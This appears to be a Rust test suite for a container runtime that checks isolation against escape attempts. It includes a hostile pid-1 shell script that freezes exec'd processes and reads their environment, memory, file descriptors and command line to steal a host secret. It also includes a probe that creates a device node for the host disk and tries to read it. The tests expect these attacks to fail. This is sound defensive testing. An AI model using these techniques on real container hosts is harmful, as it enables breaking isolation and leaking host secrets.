    if !can_run("procfs_writes_are_not_redirected_by_container_mounts") {
        return;
    }
    // A bind of a bundle dir over /proc itself, and one over /proc/sys, each after the real
    // procfs is mounted and before the runtime writes oom_score_adj and the sysctls.
    for (dest, sub) in [("/proc", ""), ("/proc/sys", "sys")] {
        let mut b = Bundle::new("procredirect", &["sleep", "1000"]);
        let fake = b.dir.join("fakeproc");
        let files = fake_proc(&fake);
        b.add_mount(
            json!({"destination": dest, "type": "bind", "source": fake.join(sub),
                   "options": ["rbind", "rw"]}),
        );
        b.config["process"]["oomScoreAdj"] = 423.into();
        b.config["linux"]["sysctl"] = json!({"kernel.shmmni": "1234"});
        b.save();
        let r = b.run_detached();
        eprintln!("bind over {dest}: status {:?} {}", r.status, r.stderr);
        for f in &files {
            assert_eq!(read(f), "untouched\n", "{} was written", f.display());
        }
        if !r.ok() {
            // The runtime refused the mount (runc: mounts over /proc must be procfs); casulo
            // mounts it and keeps its writes on the real procfs.
            assert!(!is_casulo(), "bind over {dest} refused: {}", r.stderr);
            continue;
        }
        // The writes went to the real procfs, for the container.
        let pid = b.state().unwrap()["pid"].as_i64().unwrap();
        assert_eq!(
            read(Path::new(&format!("/proc/{pid}/oom_score_adj"))),
            "423\n"
        );
        let shm = Command::new("nsenter")
            .arg("-t")
            .arg(pid.to_string())
            .arg("--ipc")
            .args(["cat", "/proc/sys/kernel/shmmni"])
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&shm.stdout), "1234\n");
        assert_ne!(read(Path::new("/proc/sys/kernel/shmmni")), "1234\n");
    }
}

// ---------------------------------------------------------------------------------------------
// 5. Privilege windows: what the user program holds from its first instruction, and what a
//    hostile pid 1 can see of a process being exec'd into its container.

/// A seccomp profile that lets everything through but mkdir, which fails with EXDEV (an errno
/// nothing else would give).
fn no_mkdir_profile() -> serde_json::Value {
    json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 18}]
    })
}

fn no_caps() -> serde_json::Value {
    json!({"bounding": [], "effective": [], "inheritable": [], "permitted": [], "ambient": []})
}

/// The checks on `cat /proc/self/status` of a program exec'd directly by the runtime.
fn assert_unprivileged(status: &str, nnp: bool, what: &str) {
    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert_eq!(cap_field(status, set), 0, "{what}: {set} is not empty");
    }
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{name}:")))
            .map(|v| v.trim().to_string())
            .unwrap_or_else(|| panic!("{what}: no {name} in {status}"))
    };
    assert_eq!(field("NoNewPrivs"), if nnp { "1" } else { "0" }, "{what}");
    assert_eq!(field("Seccomp"), "2", "{what}: no seccomp filter");
}

#[test]
fn no_privilege_window_for_the_user_program() {
    if !can_run("no_privilege_window_for_the_user_program") {
        return;
    }
    // The program is exec'd directly by the runtime, so what it reads of itself is what it
    // had from its first instruction: nothing of the runtime runs in it, and capabilities,
    // no_new_privs and seccomp can only be set by the task itself, before execve.
    let mut b = Bundle::new("privwindow", &["cat", "/proc/self/status"]);
    let rootfs = private_rootfs(&mut b);
    b.config["process"]["capabilities"] = no_caps();
    b.config["process"]["noNewPrivileges"] = true.into();
    b.config["linux"]["seccomp"] = no_mkdir_profile();
    b.save();
    let r = b.run();
    assert!(r.ok(), "{}", r.stderr);
    assert_unprivileged(&r.stdout, true, "init");

    let mut m = Bundle::new("privmkdir", &["mkdir", "/made-by-the-container"]);
    m.config["root"] = b.config["root"].clone();
    m.config["process"]["capabilities"] = no_caps();
    m.config["process"]["noNewPrivileges"] = true.into();
    m.config["linux"]["seccomp"] = no_mkdir_profile();
    m.save();
    let r = m.run();
    assert!(!r.ok());
    assert!(r.stderr.contains("cross-device"), "{}", r.stderr);
    assert!(!rootfs.join("made-by-the-container").exists());

    // exec into a container (created with the default capabilities) with a process.json that
    // drops them all, with and without no_new_privs: the container's seccomp filter applies.
    let mut c = Bundle::new("privexec", &["sleep", "1000"]);
    c.config["root"] = b.config["root"].clone();
    c.config["process"]["noNewPrivileges"] = false.into();
    c.config["linux"]["seccomp"] = no_mkdir_profile();
    c.save();
    assert!(c.run_detached().ok());
    for nnp in [true, false] {
        for (args, expect_ok) in [
            (json!(["cat", "/proc/self/status"]), true),
            (json!(["mkdir", "/made-by-exec"]), false),
        ] {
            let mut process = c.config["process"].clone();
            process["args"] = args;
            process["capabilities"] = no_caps();
            process["noNewPrivileges"] = nnp.into();
            let file = c.dir.join("process.json");
            std::fs::write(&file, serde_json::to_vec(&process).unwrap()).unwrap();
            let r = c.rt(&["exec", "--process", file.to_str().unwrap(), &c.id]);
            let what = format!("exec (noNewPrivileges {nnp})");
            if expect_ok {
                assert!(r.ok(), "{what}: {}", r.stderr);
                assert_unprivileged(&r.stdout, nnp, &what);
            } else {
                assert!(!r.ok(), "{what}: mkdir succeeded");
                assert!(r.stderr.contains("cross-device"), "{what}: {}", r.stderr);
                assert!(!rootfs.join("made-by-exec").exists());
            }
        }
    }
}

#[test]
fn masks_are_not_redirected_by_a_fake_proc() {
    if !can_run("masks_are_not_redirected_by_a_fake_proc") {
        return;
    }
    // The runtime's own view of its fds, /proc/self/fd/N, is what a container-controlled
    // /proc fakes: every N leads to a decoy directory. A runtime that names its fds through
    // the container's /proc mounts the masks on the decoy.
    let mut b = Bundle::new(
        "fakeprocfd",
        &[
            "sh",
            "-c",
            "echo \"firmware $(ls -A /sys/firmware | wc -l)\"; \
             echo \"decoy $(ls -A /decoy | wc -l)\"",
        ],
    );
    let rootfs = private_rootfs(&mut b);
    std::fs::create_dir_all(rootfs.join("decoy")).unwrap();
    std::fs::write(rootfs.join("decoy/file"), "decoy\n").unwrap();
    let fake = b.dir.join("fakeproc");
    fake_proc(&fake);
    std::fs::create_dir_all(fake.join("self/fd")).unwrap();
    for n in 3..64 {
        symlink("/decoy", fake.join(format!("self/fd/{n}"))).unwrap();
    }
    b.add_mount(
        json!({"destination": "/proc", "type": "bind", "source": fake, "options": ["rbind"]}),
    );
    b.config["linux"]["maskedPaths"] = json!(["/sys/firmware"]);
    b.config["linux"]["readonlyPaths"] = json!([]);
    b.save();
    if std::fs::read_dir("/sys/firmware")
        .map(|d| d.count())
        .unwrap_or(0)
        == 0
    {
        eprintln!("SKIPPED masks_are_not_redirected_by_a_fake_proc: /sys/firmware is empty here");
        return;
    }
    let r = b.run();
    eprintln!("status {:?}\n{}{}", r.status, r.stdout, r.stderr);
    if !r.ok() {
        // runc may refuse the fake /proc; casulo runs the container and must mask anyway.
        assert!(!is_casulo(), "the container did not run: {}", r.stderr);
        return;
    }
    assert!(
        r.stdout.contains("firmware 0\n"),
        "/sys/firmware is not masked: {}",
        r.stdout
    );
    assert!(
        r.stdout.contains("decoy 1\n"),
        "a mask went onto the decoy: {}",
        r.stdout
    );
}

/// A hostile pid 1: it stops every new process of its pid namespace as soon as it sees it and
/// inspects it before letting it go on — what a process being exec'd into the container shows
/// while the runtime sets it up: its environment (the runtime's), memory, executable (the
/// runtime's, on the host), working directory, root and fds. A stop sent during execve takes
/// effect after it, so the executable is read again at the end (`after`): a process that got
/// to its program meanwhile shows the program, not the runtime.
const HOSTILE_INIT: &str = r#"
known=" 1 $$ "
echo ready > /out/ready
while [ ! -e /out/stop ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    case "$known" in *" $p "*) continue;; esac
    kill -STOP "$p" 2>/dev/null || continue
    known="$known$p "
    exe=$(readlink "$d/exe" 2>&1)
    case "$exe" in
      /bin/busybox) echo "program $p" >> /out/log ;;
      *)
        env=$(tr '\0' ' ' 2>&1 < "$d/environ")
        mem=$( (exec 3<"$d/mem" && echo OPENED) 2>&1)
        exew=$( (exec 3>>"$d/exe" && echo OPENED) 2>&1)
        cwd=$(readlink "$d/cwd" 2>&1)
        root=$(readlink "$d/root" 2>&1)
        fds=$(for f in "$d"/fd/*; do echo "${f##*/}:$(readlink "$f" 2>&1)"; done | tr '\n' ' ')
        cmd=$(tr '\0' ' ' 2>&1 < "$d/cmdline")
        after=$(readlink "$d/exe" 2>&1)
        state=$(cut -d' ' -f3 "$d/stat" 2>&1)
        echo "window $p exe=[$exe] environ=[$env] mem=[$mem] exe-write=[$exew] cwd=[$cwd] root=[$root] fds=[$fds] cmdline=[$cmd] after=[$after] state=[$state]" >> /out/log
        ;;
    esac
    kill -CONT "$p"
  done
done
echo stopped >> /out/log
"#;

/// Run [`HOSTILE_INIT`] as pid 1 while the host execs `true` into the container 40 times
/// with a secret in the runtime's environment. Returns the "window" lines: processes the
/// hostile init caught before they exec'd the program, and the secret.
fn hostile_init_windows(name: &str) -> (Vec<String>, String) {
    let mut b = Bundle::new(name, &["sh", "-c", HOSTILE_INIT]);
    let out = b.with_out_dir();
    let r = b.run_detached();
    assert!(r.ok(), "run -d: {}", r.stderr);
    assert!(wait_for_file(&out.join("ready"), Duration::from_secs(10)).is_some());
    let secret = format!("host-secret-{}", b.id);
    for _ in 0..40 {
        let mut c = b.cmd(&["exec", &b.id, "true"]);
        c.env("CASULO_ATTACK_HOST_SECRET", &secret);
        let r = output_within(c, Duration::from_secs(20));
        assert!(r.ok(), "{}", r.stderr);
    }
    std::fs::write(out.join("stop"), "").unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !read(&out.join("log")).contains("stopped") && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    let log = read(&out.join("log"));
    let windows: Vec<String> = log
        .lines()
        .filter(|l| l.starts_with("window"))
        .map(String::from)
        .collect();
    eprintln!(
        "{name}: the hostile init caught {} processes during setup, {} after exec; first: {}",
        windows.len(),
        log.lines().filter(|l| l.starts_with("program")).count(),
        windows.first().map(String::as_str).unwrap_or("-")
    );
    assert!(
        !windows.is_empty(),
        "the hostile init never caught an exec during setup: the test proved nothing"
    );
    (windows, secret)
}

/// Whether a window line shows a process that was in the runtime's setup from the first read
/// to the last: not one that exec'd its program meanwhile (what was read may be the program's,
/// which the container may see), nor one that had exited (a zombie, or gone).
fn in_setup(w: &str) -> bool {
    let state = window_field(w, "state");
    window_field(w, "after").is_empty() && state.len() == 1 && !["Z", "X"].contains(&state.as_str())
}

/// The text between `name=[` and the next `]` of a window line.
fn window_field(w: &str, name: &str) -> String {
    let start = w.find(&format!("{name}=[")).unwrap() + name.len() + 2;
    w[start..].split(']').next().unwrap().to_string()
}

#[test]
fn hostile_init_sees_nothing_of_an_exec_being_set_up() {
    if !can_run("hostile_init_sees_nothing_of_an_exec_being_set_up") {
        return;
    }
    let (windows, secret) = hostile_init_windows("hostileinit");
    let mut strict = 0;
    for w in &windows {
        assert!(
            !w.contains(&secret),
            "the runtime's environment leaked: {w}"
        );
        if !in_setup(w) {
            continue;
        }
        strict += 1;
        for name in ["environ", "mem", "exe-write"] {
            assert!(
                window_field(w, name).contains("denied"),
                "{name} of a process in setup was not refused: {w}"
            );
        }
        assert!(!w.contains("OPENED"), "memory or executable opened: {w}");
        // busybox readlink prints nothing when it is refused.
        for name in ["exe", "cwd", "root"] {
            let v = window_field(w, name);
            assert!(
                v.is_empty() || v.contains("denied"),
                "{name} of a process in setup was readable: {w}"
            );
        }
        for fd in window_field(w, "fds").split_whitespace() {
            assert!(
                fd.ends_with(':') || fd.contains("denied"),
                "an fd of a process in setup was readable: {w}"
            );
        }
    }
    assert!(
        strict > 0,
        "no process was inspected wholly during its setup"
    );
}

#[test]
fn hostile_init_does_not_see_the_runtime_command_line() {
    if !can_run("hostile_init_does_not_see_the_runtime_command_line") {
        return;
    }
    let (windows, secret) = hostile_init_windows("hostilecmdline");
    let host_paths = [
        env!("CARGO_TARGET_TMPDIR").to_string(),
        runtime_path().display().to_string(),
    ];
    for w in windows
        .iter()
        .filter(|w| window_field(w, "after").is_empty())
    {
        let cmdline = window_field(w, "cmdline");
        assert!(!cmdline.contains(&secret), "{w}");
        for p in &host_paths {
            assert!(
                !cmdline.contains(p.as_str()),
                "a host path ({p}) leaked: {w}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// 6. A device node of the host's disk made inside the container.

/// major:minor of the host's root disk: the block device under `/`, or the first disk the
/// kernel lists.
fn host_disk() -> Option<(u32, u32)> {
    let info = read(Path::new("/proc/self/mountinfo"));
    let root = info.lines().find_map(|l| {
        let f: Vec<&str> = l.split(' ').collect();
        (f.get(4) == Some(&"/")).then(|| f[2].to_string())
    });
    if let Some((ma, mi)) = root.as_deref().and_then(|d| d.split_once(':')) {
        let (ma, mi): (u32, u32) = (ma.parse().ok()?, mi.parse().ok()?);
        if ma != 0 {
            return Some((ma, mi));
        }
    }
    read(Path::new("/proc/partitions"))
        .lines()
        .skip(2)
        .find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            Some((f.first()?.parse().ok()?, f.get(1)?.parse().ok()?))
        })
}

#[test]
fn device_node_of_the_host_disk_is_unusable() {
    if !can_run("device_node_of_the_host_disk_is_unusable") {
        return;
    }
    let Some((major, minor)) = host_disk() else {
        eprintln!("SKIPPED device_node_of_the_host_disk_is_unusable: no block device found");
        return;
    };
    // CAP_MKNOD granted, no device rule that allows the disk (nor /dev/kmsg): the device
    // cgroup must refuse them. /dev is the config's tmpfs, which allows device nodes.
    // Only reads: a write to the host disk would destroy it if the runtime let it through.
    let probe = format!(
        "mknod /dev/hostdisk b {major} {minor} && echo mknod-disk-ok; \
         echo \"disk-read $(head -c 512 /dev/hostdisk 2>/dev/shm/err | wc -c)\"; \
         cat /dev/shm/err; \
         mknod /dev/hostkmsg c 1 11 && echo mknod-kmsg-ok; \
         echo \"kmsg-read $(head -n 1 /dev/hostkmsg 2>/dev/shm/err | wc -c)\"; \
         cat /dev/shm/err"
    );
    for rules in [None, Some(json!([{"allow": false, "access": "rwm"}]))] {
        let mut b = Bundle::new("hostdisk", &["sh", "-c", &probe]);
        let caps = [
            "CAP_MKNOD",
            "CAP_AUDIT_WRITE",
            "CAP_KILL",
            "CAP_NET_BIND_SERVICE",
        ];
        for set in ["bounding", "effective", "permitted"] {
            b.config["process"]["capabilities"][set] = json!(caps);
        }
        match &rules {
            None => {
                b.config["linux"]
                    .as_object_mut()
                    .unwrap()
                    .remove("resources");
            }
            Some(r) => b.config["linux"]["resources"]["devices"] = r.clone(),
        }
        b.save();
        let r = b.run();
        eprintln!(
            "device rules {rules:?}: status {:?}\n{}{}",
            r.status, r.stdout, r.stderr
        );
        assert!(r.ok(), "{}", r.stderr);
        assert!(r.stdout.contains("disk-read 0"), "{}", r.stdout);
        assert!(r.stdout.contains("kmsg-read 0"), "{}", r.stdout);
        // Refused by the device cgroup (EPERM), not by a nodev mount or a missing node.
        assert!(
            r.stdout.contains("/dev/hostdisk: Operation not permitted")
                || !r.stdout.contains("mknod-disk-ok"),
            "{}",
            r.stdout
        );
    }
}
